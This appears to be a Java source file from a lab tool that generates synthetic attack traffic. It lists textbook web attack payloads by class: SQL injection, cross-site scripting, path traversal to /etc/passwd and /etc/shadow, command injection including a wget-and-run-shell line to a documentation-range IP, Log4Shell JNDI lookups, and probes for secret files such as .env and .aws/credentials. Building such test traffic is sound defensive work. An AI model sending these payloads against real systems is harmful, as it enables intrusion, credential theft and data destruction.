package io.weir.lab.generate.trouble;

import java.util.List;

/** What attackers ask for, by class: plain textbook forms, for traffic that is made up. */
final class Payloads {
  private Payloads() {}

  /**
   * One request.
   *
   * @param path its path
   * @param query its query, or empty
   */
  record Payload(String path, String query) {}

  static final List<Payload> SQL_INJECTION =
      List.of(
          new Payload("/search", "q=1%27%20OR%20%271%27=%271"),
          new Payload(
              "/search", "q=-1%20UNION%20ALL%20SELECT%20NULL,username,password%20FROM%20users--"),
          new Payload("/item/12", "id=12%20AND%20SLEEP(5)"),
          new Payload("/api/items", "sort=id;DROP%20TABLE%20orders--"),
          new Payload(
              "/search",
              "q=x%27%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables%23"));

  static final List<Payload> CROSS_SITE_SCRIPTING =
      List.of(
          new Payload("/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"),
          new Payload("/search", "q=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E"),
          new Payload("/help", "topic=%3Csvg/onload=alert(1)%3E"),
          new Payload("/about", "ref=javascript:alert(document.domain)"));

  static final List<Payload> PATH_TRAVERSAL =
      List.of(
          new Payload("/static/../../../../etc/passwd", ""),
          new Payload("/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow", ""),
          new Payload("/help", "file=../../../../../../etc/passwd"),
          new Payload("/api/items", "include=..%252f..%252f..%252fetc%252fpasswd"));

  static final List<Payload> COMMAND_INJECTION =
      List.of(
          new Payload("/api/items", "name=a;cat%20/etc/passwd"),
          new Payload("/search", "q=%7C%20wget%20http://198.51.100.9/x.sh%20-O-%20%7C%20sh"),
          new Payload("/help", "topic=$(id)"),
          new Payload("/help", "topic=%60uname%20-a%60"));

  static final List<Payload> LOG4SHELL =
      List.of(
          new Payload("/", "x=$%7Bjndi:ldap://198.51.100.9/a%7D"),
          new Payload("/login", "u=$%7B$%7Blower:j%7Dndi:rmi://198.51.100.9/b%7D"));

  static final List<Payload> SCAN =
      List.of(
          new Payload("/.env", ""),
          new Payload("/.git/config", ""),
          new Payload("/wp-login.php", ""),
          new Payload("/phpmyadmin/", ""),
          new Payload("/backup.sql", ""),
          new Payload("/server-status", ""),
          new Payload("/search", "q=%27"),
          new Payload("/.aws/credentials", ""),
          new Payload("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ""));
}
